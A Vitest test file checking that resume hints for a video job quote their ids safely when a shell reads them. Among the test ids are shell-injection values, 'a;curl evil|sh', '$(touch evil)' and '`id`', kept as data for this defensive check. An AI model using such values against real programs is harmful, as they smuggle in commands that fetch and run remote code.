import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { formatResumeHint } from "../../src/jobs/resume-hint.ts";

test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"])(
  "a shell reads the command that resumes %j as flags and the id, and runs nothing else",
  (id) => {
    const hint =
      formatResumeHint({ provider: "heygen", surface: "video", ids: { video_id: id } }, true) ?? "";
    const [, rest = ""] = hint.split(": showreel ");
    const argv = execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${rest}`], { encoding: "utf8" })
      .trimEnd()
      .split("\n");
    expect(argv).toEqual(["--provider", "heygen", "--video-id", id]);
  },
);
